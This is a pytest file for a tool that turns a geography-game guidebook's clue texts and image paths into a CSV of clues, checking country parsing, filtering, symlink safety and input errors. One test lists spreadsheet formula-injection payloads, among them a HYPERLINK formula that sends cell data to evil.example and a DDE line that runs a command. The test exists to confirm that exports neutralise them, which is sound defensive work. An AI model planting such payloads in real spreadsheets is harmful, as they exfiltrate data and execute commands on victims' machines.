"""NAVIG's two aligned files as a repository of clues."""

from __future__ import annotations

import csv
import runpy
import subprocess
import sys
from pathlib import Path

import pytest

from factory.errors import RecipeError
from factory.generators import guidebook as module
from factory.generators.clue_book import clue_book
from factory.generators.guidebook import as_csv, country_of, kind_of, read_guidebook

ROWS = [
    ("top-tips/world_1.jpg", "The leaderboard resets every Monday."),
    ("top-tips/Kenya_1.jpg", "Check the daily challenge for Kenya."),
    ("plonkit/Botswana_4.jpg", "The outer lines of the road are yellow."),
    ("plonkit/South_Africa_12.png", "Poles are made of wood."),
    ("plonkit/South_Africa_13.png", "Poles are made of wood."),
    ("plonkit/Nowhere_1.jpg", "A house."),
    ("plonkit/Chile_2.jpg", ""),
    ("plonkit/Chile_3.jpg", "Long. " * 400),
]


@pytest.fixture
def guidebook(tmp_path: Path) -> tuple[Path, Path]:
    texts, images = tmp_path / "text_descriptions.txt", tmp_path / "image_paths.txt"
    texts.write_text("\r\n".join(text for _, text in ROWS) + "\r\n")
    images.write_text("\n".join(image for image, _ in ROWS) + "\n")
    return texts, images


def test_the_country_is_read_from_the_pictures_name_and_what_is_left_out_is_counted(
    guidebook: tuple[Path, Path],
) -> None:
    clues, dropped = read_guidebook(*guidebook, source="a guide", licence="all rights reserved")
    assert [(clue.id, clue.country, clue.kind) for clue in clues] == [
        ("BW-3", "BW", "road"),
        ("ZA-4", "ZA", "infrastructure"),
    ]
    assert dropped == {"about_the_game": 2, "repeated": 1, "no_country": 1, "empty": 1, "too_long": 1}
    assert {clue.source for clue in clues} == {"a guide"}


@pytest.mark.parametrize(
    ("image", "country"),
    [
        ("a/Botswana_4.jpg", "BW"),
        ("United_States_of_America_120.jpeg", "US"),
        ("c:\\guide\\New_Zealand_3.jpg", "NZ"),
        ("Kenya.jpg", "KE"),
        ("img_4.jpg", None),
        ("", None),
    ],
)
def test_countries_of_pictures(image: str, country: str | None) -> None:
    assert country_of(image) == country


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Licence plates are yellow.", "vehicle"),
        ("The letter ł only occurs in Polish.", "language"),
        ("Stop signs say PARE.", "sign"),
        ("Guard rails are painted.", "infrastructure"),
        ("Roofs are made of red tiles.", "architecture"),
        ("Palm trees line the coast.", "nature"),
        ("People wear hats.", "culture"),
    ],
)
def test_kinds_are_guessed_from_words(text: str, kind: str) -> None:
    assert kind_of(text) == kind


def test_what_is_read_is_a_repository_that_the_family_reads(guidebook: tuple[Path, Path], tmp_path: Path) -> None:
    clues, _ = read_guidebook(*guidebook, source="a, guide", licence="mine")
    (tmp_path / "clues.csv").write_text(as_csv(clues), encoding="utf-8")
    assert [*clue_book(tmp_path / "clues.csv").clues.values()] == clues


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"map")',
    "+cmd|' /C calc'!A0",
    "-SUM(1)",
    "@SUM(1)",
    "\uff1d1+1",
    "Poles; =SUM(1)",
    "'=1+1 is what a sign says",
    "''=1; '=2",
]


def test_no_cell_that_people_correct_is_a_formula_and_the_family_reads_what_stood_there(tmp_path: Path) -> None:
    texts, images, out = tmp_path / "t.txt", tmp_path / "i.txt", tmp_path / "clues.csv"
    texts.write_text("\n".join([*FORMULAS, "It's -5 here; one"]) + "\n", encoding="utf-8")
    images.write_text("Kenya_1.jpg\n" * (len(FORMULAS) + 1))
    script = Path(__file__).parents[3] / "recipes" / "clues" / "from_guidebook.py"
    given = [texts, images, out, "--source", "=1+1", "--licence", "@A1"]
    assert subprocess.run([sys.executable, "-P", script, *given], check=True).returncode == 0
    for separator in ",;":
        with out.open(encoding="utf-8", newline="") as file:
            cells = [cell.strip(' "') for row in csv.reader(file, delimiter=separator) for cell in row]
        assert len(cells) > len(FORMULAS) and not [cell for cell in cells if cell[:1] in "=+-@\uff1d" and cell], cells
    clues = [*clue_book(out).clues.values()]
    assert [clue.text for clue in clues] == [*FORMULAS, "It's -5 here; one"]
    assert {(clue.source, clue.licence) for clue in clues} == {("=1+1", "@A1")}
    assert ",It's -5 here; one," in out.read_text(), "other cells are as they were"


def test_the_file_replaces_a_link_of_its_name_and_follows_none(guidebook: tuple[Path, Path], tmp_path: Path) -> None:
    script = Path(__file__).parents[3] / "recipes" / "clues" / "from_guidebook.py"
    (tmp_path / "victim").write_text("keep")
    (tmp_path / "clues.csv").symlink_to("victim")
    main = runpy.run_path(str(script))["main"]
    assert main([*map(str, guidebook), str(tmp_path / "clues.csv"), "--source", "x", "--licence", "y"]) == 0
    assert (tmp_path / "victim").read_text() == "keep" and "yellow" in (tmp_path / "clues.csv").read_text()


def test_files_that_do_not_belong_together_or_cannot_be_read_are_refused(
    guidebook: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    texts, images = guidebook
    with pytest.raises(RecipeError, match="cannot be read"):
        read_guidebook(texts, tmp_path / "none", source="s", licence="l")
    images.write_text("Kenya_1.jpg\n")
    with pytest.raises(RecipeError, match=r"8 lines, but .* has 1; the two belong line to line"):
        read_guidebook(texts, images, source="s", licence="l")
    images.write_bytes(b"\xff\n")
    with pytest.raises(RecipeError, match="cannot be read as UTF-8"):
        read_guidebook(texts, images, source="s", licence="l")
    monkeypatch.setattr(module, "MAX_BYTES", 10)
    with pytest.raises(RecipeError, match="a guidebook has at most 10"):
        read_guidebook(texts, images, source="s", licence="l")
